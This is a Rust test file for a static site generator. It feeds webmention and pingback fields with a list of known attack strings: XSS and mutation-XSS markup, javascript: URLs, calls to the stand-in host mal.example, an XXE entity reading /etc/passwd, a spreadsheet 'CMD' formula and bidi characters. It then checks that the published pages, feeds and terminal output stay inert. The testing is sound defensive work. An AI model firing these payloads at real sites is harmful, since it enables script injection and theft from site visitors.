//! Malicious text in every field of a mention: what is published is parsed again and must be inert.

use std::collections::BTreeSet;

use proptest::prelude::*;
use scraper::{ElementRef, Html, Selector};

use pingmark_site::mention::sanitise::{self, TAGS};

use super::inert::xml;
use super::quoted;
use crate::support::{Site, is_of_the_theme};

/// A word in every payload that shows where a payload went.
const CANARY: &str = "CANARI";

/// Texts known to have broken sanitisers, templates, feeds and terminals.
fn payloads() -> Vec<String> {
    let long = "x".repeat(9_000);
    let deep = |open: &str, close: &str| format!("{}CANARI{}", open.repeat(600), close.repeat(600));
    let given = [
        // Scripts, plain and in disguise.
        "<script>alert('CANARI')</script>",
        "<ScRiPt src=https://mal.example/CANARI.js></ScRiPt>",
        "<scr<script>ipt>alert('CANARI')</scr</script>ipt>",
        "</script><script>alert('CANARI')</script>",
        "</title><script>alert('CANARI')</script>",
        "</textarea></style></noscript><img src=x onerror=alert('CANARI')>",
        "\"><script>alert('CANARI')</script>",
        "' onmouseover='alert(\"CANARI\")' x='",
        "\" onfocus=alert('CANARI') autofocus x=\"",
        "<img src=x onerror=alert('CANARI')>",
        "<img src=https://mal.example/pixel-CANARI.gif>",
        "<img/src='x'/onerror=alert('CANARI')>",
        "<body onload=alert('CANARI')>",
        "<input autofocus onfocus=alert('CANARI')>",
        "<details open ontoggle=alert('CANARI')>CANARI</details>",
        "<video><source onerror=\"alert('CANARI')\"></video>",
        "<marquee onstart=alert('CANARI')>CANARI</marquee>",
        // Addresses.
        "javascript:alert('CANARI')",
        "<a href=\"javascript:alert('CANARI')\">CANARI</a>",
        "<a href=\"java&#x0A;script:alert('CANARI')\">CANARI</a>",
        "<a href=\"&#106;avascript&colon;alert('CANARI')\">CANARI</a>",
        "<a href=\" \u{1}javascript:alert('CANARI')\">CANARI</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">CANARI</a>",
        "<a href=\"vbscript:msgbox(1)\">CANARI</a>",
        "<a href=\"//mal.example/CANARI\">CANARI</a>",
        "https://mal.example/\"onmouseover=\"alert(1)//CANARI",
        "https://moi:secret@mal.example/'><script>CANARI",
        // SVG, MathML, templates, and markup that parses differently the second time (mutation XSS).
        "<svg onload=alert('CANARI')></svg>",
        "<svg><script>alert('CANARI')</script></svg>",
        "<svg><a xlink:href=\"javascript:alert('CANARI')\"><text x=20 y=20>CANARI</text></a></svg>",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert('CANARI')>\">",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert('CANARI')&gt;\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert('CANARI')>",
        "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=alert('CANARI')></style></annotation-xml></math>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert('CANARI')>\">",
        "<template><script>alert('CANARI')</script></template>",
        "<xmp><p title=\"</xmp><img src=x onerror=alert('CANARI')>\">",
        "<iframe srcdoc=\"<script>alert('CANARI')</script>\"></iframe>",
        "<object data=\"data:text/html,CANARI\"></object><embed src=https://mal.example/CANARI>",
        "<base href=https://mal.example/CANARI/><link rel=stylesheet href=https://mal.example/CANARI.css>",
        "<meta http-equiv=refresh content=\"0;url=https://mal.example/CANARI\">",
        "<style>*{background:url(https://mal.example/CANARI)}</style>",
        "<p style=\"position:fixed;inset:0\" id=main class=h-entry>CANARI</p>",
        "<form action=https://mal.example/CANARI><button>CANARI</button></form>",
        "<a href=https://ami.example/ rel=me class=u-url target=_top onclick=alert(1) ping=https://mal.example/>CANARI</a>",
        // Delimiters of other languages.
        "]]><script>alert('CANARI')</script><![CDATA[",
        "--><script>alert('CANARI')</script><!--",
        "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;CANARI",
        "<?xml-stylesheet href=\"https://mal.example/CANARI\"?>",
        "{{ config.extra }}{% raw %}CANARI{% endraw %}{{ 7*7 }}",
        "\",\"@type\":\"Person\",\"x\":\"CANARI\u{2028}",
        "\\u003cscript\\u003ealert('CANARI')\\u003c/script\\u003e",
        "&lt;script&gt;alert('CANARI')&lt;/script&gt;",
        "&amp;lt;img src=x onerror=alert('CANARI')&amp;gt;",
        "=CMD|' /C calc'!A0CANARI",
        // Characters that hide text or change its direction.
        "\u{202e}gpj.CANARI\u{2066}exe\u{2069}",
        "CANARI\u{0}\u{1}\u{8}\u{b}\u{1b}[31m\u{7f}\u{85}\u{feff}\u{fffe}\u{ffff}",
        "C\u{200b}A\u{200d}N\u{2060}ARI\u{e0041}\u{3164} CANARI",
        "CANARIZ\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}\u{308}",
        "<p\u{0} onclick=alert('CANARI')>CANARI</p\u{0}>",
    ];
    let mut all: Vec<String> = given.map(str::to_owned).into();
    all.push(format!("CANARI {long}"));
    all.push(format!("{long}<script>alert('CANARI')"));
    all.push(deep("<b>", "</b>"));
    all.push(deep("<blockquote><ul><li>", "</li></ul></blockquote>"));
    all.push(deep("<svg><math><table><tr><td>", ""));
    all.push(format!("{}CANARI", "<a href=https://a.example/>".repeat(300)));
    all.push(format!(
        "{}CANARI",
        (0..30).map(|n| format!("<i x={n}>")).collect::<String>() + &"<p>".repeat(2_000)
    ));
    all
}

const KINDS: [&str; 8] =
    ["pingback", "trackback", "webmention", "reply", "like", "repost", "bookmark", "comment"];

/// Writes a post with two mentions of each kind. The payload is in every field, except that the
/// first mention of a kind has a valid source and date: without a source nothing is shown at all.
fn add(site: &Site, slug: &str, payload: &str) {
    site.write(
        &format!("content/posts/{slug}.md"),
        format!("---\ntitle: Titre\ndate: 2026-01-01\ndescription: Un essai.\n---\n\nTexte de {slug}.\n"),
    );
    let text = quoted(payload);
    for (number, kind) in KINDS.iter().enumerate() {
        for (case, source) in ["https://source.example/x".to_owned(), payload.to_owned()].iter().enumerate() {
            let source = quoted(&source.replace("/x", &format!("/{slug}/{number}")));
            let fields = format!(
                "type: {kind}\nsource: {source}\nurl: {text}\ntarget: https://essai.example/posts/{slug}/\ntitle: {text}\n\
                 author: {{name: {text}, url: {text}, photo: {text}}}\ncontent: {text}\nexcerpt: {text}\n\
                 published: {}\nstatus: approved\nparent: {text}\nvia: {text}\n",
                ["2026-02-01", &text][case]
            );
            site.write(&format!("mentions/{slug}/2026-02-01-source.example-{kind}{case}.yaml"), fields);
        }
    }
}

fn selector(text: &str) -> Selector {
    Selector::parse(text).expect("a selector")
}

/// An element's name with the names of its attributes.
fn shape(element: &ElementRef<'_>) -> String {
    let mut names: Vec<&str> = element.value().attrs().map(|(name, _)| name).collect();
    names.sort_unstable();
    format!("<{} {}>", element.value().name(), names.join(" "))
}

/// Whether an element is part of the text of a reply.
fn is_in_reply_text(element: &ElementRef<'_>) -> bool {
    element.ancestors().filter_map(ElementRef::wrap).any(|above| {
        above.value().classes().any(|class| class == "e-content")
            && above
                .ancestors()
                .filter_map(ElementRef::wrap)
                .any(|e| e.value().classes().any(|c| c == "replies"))
    })
}

#[test]
fn whatever_strangers_send_comes_out_inert() {
    let payloads = payloads();
    assert!(payloads.len() >= 40);
    let site = Site::new();
    add(&site, "temoin", "https://ami.example/page");
    let site = site.post("zz", "Texte.");
    site.write(
        "mentions/temoin/mot.yaml",
        "type: reply\nsource: https://a.example/\ncontent: mot\nstatus: approved\n",
    );
    site.write("mentions/temoin/ping.yaml", "type: pingback\nsource: https://b.example/\nstatus: approved\n");
    site.write("mentions/temoin/jaime.yaml", "type: like\nsource: https://c.example/\nstatus: approved\n");
    for (number, payload) in payloads.iter().enumerate() {
        add(&site, &format!("p{number}"), payload);
    }
    let run = site.build();
    assert_eq!(run.code, 0, "{}", run.err);
    // Diagnostics on a terminal move no cursor and change no text direction.
    assert!(!run.err.contains(['\u{1b}', '\u{7}', '\u{202e}', '\u{0}']), "{}", run.err);

    let everything = selector("*");
    let known: BTreeSet<String> = {
        let page = Html::parse_document(&site.public("posts/temoin/index.html"));
        page.select(&everything)
            .filter(|element| !is_in_reply_text(element))
            .map(|element| shape(&element))
            .collect()
    };
    let mut seen = 0;
    for (number, payload) in payloads.iter().enumerate() {
        let shown: String = payload.chars().take(80).collect();
        let html = site.public(&format!("posts/p{number}/index.html"));
        seen += usize::from(html.contains(CANARY));
        assert!(html.len() < 400_000, "{shown}: a page of {} bytes", html.len());
        let page = Html::parse_document(&html);
        for element in page.select(&everything) {
            let context = || format!("{shown}\n{}", element.html());
            let name = element.value().name();
            if is_in_reply_text(&element) {
                assert!(TAGS.contains(&name), "{}", context());
                let mut attributes: Vec<(&str, &str)> = element.value().attrs().collect();
                attributes.retain(|attribute| *attribute != ("rel", "ugc nofollow"));
                let is_link =
                    |(key, value): &(&str, &str)| name == "a" && *key == "href" && value.starts_with("http");
                assert!(attributes.iter().all(is_link), "{}", context());
            } else {
                assert!(known.contains(&shape(&element)), "{}", context());
            }
            for (key, value) in element.value().attrs() {
                assert!(!key.starts_with("on") && key != "style" && key != "srcdoc", "{}", context());
                if matches!(key, "href" | "src" | "action" | "value") && !value.is_empty() {
                    let is_date = element.value().classes().any(|class| class == "dt-published");
                    let is_plain = ["https://", "http://", "/", "#", "mailto:?subject="]
                        .iter()
                        .any(|start| value.starts_with(start));
                    assert!((is_plain && !value.starts_with("//")) || is_date, "{}", context());
                    assert!(!value.contains(['"', '\'', '<', '>', ' ']), "{}", context());
                }
            }
            // Links from mentions are marked as user content.
            let away = element
                .value()
                .attr("href")
                .is_some_and(|href| href.starts_with("http") && !href.starts_with("https://essai.example"));
            // Share buttons are the theme's own links.
            let shares = element.value().attr("rel") == Some("noopener");
            if name == "a" && away && !shares {
                assert_eq!(element.value().attr("rel"), Some("ugc nofollow"), "{}", context());
            }
        }
        // Nothing is loaded without a click.
        for section in page.select(&selector(".pings, .replies, .reactions")) {
            let fetched =
                selector("img, video, audio, iframe, object, embed, style, svg, math, form, link, script");
            assert!(section.select(&fetched).next().is_none(), "{shown}");
        }
        let text: String = page.root_element().text().collect();
        let is_hidden = |c: char| {
            c != '\n'
                && c != '\t'
                && c != '\u{200d}'
                && c != '\u{200c}'
                && pingmark_site::mention::plain_text::is_hidden(c)
        };
        assert!(!text.contains(is_hidden), "{shown}: {:?}", text.chars().find(|c| is_hidden(*c)));
        for script in page.select(&selector("script")).filter(|script| !is_of_the_theme(*script)) {
            assert_eq!(script.value().attr("type"), Some("application/ld+json"), "{shown}");
            let json: String = script.text().collect();
            serde_json::from_str::<serde_json::Value>(&json)
                .unwrap_or_else(|error| panic!("{shown}: {error}"));
            assert!(!json.contains(CANARY), "{shown}");
        }
    }
    assert!(seen > payloads.len() / 2, "only {seen} payloads were shown at all");

    // No payload is published anywhere else, and feeds, sitemap and JSON stay well-formed.
    for (path, bytes) in site.tree("public") {
        let Ok(text) = String::from_utf8(bytes) else { continue };
        let is_own = path.starts_with("posts/p") && path.ends_with("/index.html");
        assert!(is_own || !text.contains(CANARY), "{path}");
        if path.ends_with(".xml") {
            xml(&text, &path);
        } else if path.ends_with(".json") || path.ends_with(".webmanifest") {
            serde_json::from_str::<serde_json::Value>(&text)
                .unwrap_or_else(|error| panic!("{path}: {error}"));
        }
    }
    for path in ["feed.xml", "atom.xml", "feed.json", "sitemap.xml"] {
        assert!(site.path("public").join(path).exists(), "{path} was not published");
    }
}

#[test]
fn what_programs_list_is_one_line_each_and_moves_no_cursor() {
    let site = Site::new();
    for (number, payload) in payloads().iter().enumerate() {
        add(&site, &format!("p{number}"), payload);
    }
    let is_control = |c: char| c.is_control() && c != '\n';
    let table = site.run(&["mentions", "list"]);
    assert!(table.code == 0 && !table.out.contains(is_control), "{}", table.err);
    let json = site.run(&["mentions", "list", "--format", "json"]);
    let rows: Vec<serde_json::Value> = serde_json::from_str(&json.out).expect("JSON");
    assert_eq!(table.out.lines().count(), rows.len());
    for row in rows.iter().step_by(16) {
        let shown = site.run(&["mentions", "show", row["id"].as_str().expect("an id")]);
        assert!(!shown.out.contains(is_control), "{:?}", shown.out);
    }
}

/// The elements of a sanitised text that should have been removed.
fn forbidden(html: &str) -> Vec<String> {
    let page = Html::parse_fragment(html);
    page.select(&selector("*"))
        .filter(|element| element.value().name() != "html")
        .filter(|element| {
            let is_fine = |(key, value): (&str, &str)| match key {
                "href" => value.starts_with("https://") || value.starts_with("http://"),
                "rel" => value == sanitise::REL,
                _ => false,
            };
            let name = element.value().name();
            !TAGS.contains(&name) || !element.value().attrs().all(|one| name == "a" && is_fine(one))
        })
        .map(|element| element.html())
        .collect()
}

#[test]
fn every_payload_is_sanitised_once_and_for_all() {
    for payload in payloads() {
        let once = sanitise::html(&payload);
        assert_eq!(forbidden(&once), Vec::<String>::new(), "{payload}");
        assert_eq!(sanitise::html(&once), once, "{payload}");
    }
}

/// Fragments of HTML, in the combinations that attackers try.
fn pieces() -> impl Strategy<Value = String> {
    let tags = [
        "a href=https://a.example/",
        "a href=javascript:x",
        "b",
        "p",
        "blockquote",
        "ul",
        "li",
        "pre",
        "table",
        "tr",
        "td",
        "svg",
        "math",
        "mtext",
        "mglyph",
        "style",
        "script",
        "title",
        "textarea",
        "noscript",
        "template",
        "form",
        "button",
        "select",
        "option",
        "object",
        "iframe",
        "xmp",
        "plaintext",
        "foreignObject",
        "desc",
        "annotation-xml encoding=text/html",
        "img src=x onerror=x",
        "br",
        "code",
        "nobr",
        "caption",
        "h1",
        "div",
        "frameset",
        "body",
        "html",
        "head",
        "p id=x onclick=y",
        "font color=x",
    ];
    let open = prop::sample::select(tags.to_vec()).prop_map(|tag| format!("<{tag}>"));
    let close = prop::sample::select(tags.to_vec())
        .prop_map(|tag| format!("</{}>", tag.split(' ').next().unwrap_or_default()));
    let odd = prop::sample::select(vec![
        "<!--",
        "-->",
        "<![CDATA[",
        "]]>",
        "<!",
        "<?",
        "</",
        "<",
        ">",
        "\"",
        "'",
        "&lt;",
        "&gt;",
        "&amp;",
        "&#60;",
        "&nbsp;",
        "\n\n",
        "\n",
        " ",
        "\u{0}",
        "\u{202e}",
        "=",
        "/>",
    ])
    .prop_map(str::to_owned);
    prop::collection::vec(prop_oneof![4 => open, 3 => close, 3 => odd, 2 => "[a-zé ]{1,6}"], 0..40)
        .prop_map(|parts| parts.concat())
}

/// A character that the sanitiser removes can also be written as a character reference.
#[test]
fn what_is_hidden_does_not_come_back_by_reference() {
    for raw in ["&#1", "&#1;x", "<p>&#x202e;abc</p>", "&#0;&#x7f;&#x80;", "<b>&#8203;</b>"] {
        let html = sanitise::html(raw);
        assert!(
            !html.contains(|c: char| pingmark_site::mention::plain_text::is_hidden(c) && c != '\n'),
            "{raw}: {html:?}"
        );
        assert_eq!(sanitise::html(&html), html, "{raw}");
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 600, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn sanitised_html_holds_only_what_may_stay(raw in prop_oneof![4 => pieces(), 1 => any::<String>()]) {
        let once = sanitise::html(&raw);
        prop_assert_eq!(forbidden(&once), Vec::<String>::new());
        prop_assert_eq!(&sanitise::html(&once), &once);
        let plain = sanitise::plain(&raw);
        prop_assert!(!plain.contains(|c: char| c.is_control() && c != '\n'));
    }

    #[test]
    fn names_and_addresses_hold_nothing_hidden(raw in any::<String>()) {
        let name = pingmark_site::mention::plain_text::one_line(&raw, 80);
        prop_assert!(name.chars().count() <= 80);
        prop_assert!(!name.contains(pingmark_site::mention::plain_text::is_hidden));
        prop_assert_eq!(&pingmark_site::mention::plain_text::one_line(&name, 80), &name);
        if let Some(address) = pingmark_core::web_address::normalized(&raw) {
            prop_assert!(address.is_ascii() && address.starts_with("http"));
            prop_assert_eq!(pingmark_core::web_address::normalized(&address), Some(address));
        }
    }
}
